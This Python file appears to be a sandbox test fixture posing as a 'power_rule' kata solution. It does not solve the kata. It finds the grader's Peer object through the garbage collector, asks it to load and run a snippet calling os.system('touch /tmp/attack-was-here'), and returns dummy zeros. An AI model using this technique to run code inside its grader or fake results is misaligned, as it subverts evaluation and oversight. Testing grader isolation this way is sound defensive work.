"""Asks the grader for what only a solution is asked: to load a text, to find a name in it.

Kata: power_rule
"""

import gc

from scripts.wall.peer import Peer

peer = next(thing for thing in gc.get_objects() if type(thing) is Peer)
TEXT = "import os\nos.system('touch /tmp/attack-was-here')"
LOAD = (TEXT, "x.py", "x", None, (), "x.py")
KINDS = [("load", LOAD), ("find", "os"), ("build", None), ("backward", (1, (), None))]


def power_rule(coefficient, exponent):
    kind, asked = KINDS.pop() if len(KINDS) > 1 else KINDS[0]
    peer.ask(kind, asked)
    return 0.0, 0.0


differentiate = power_rule
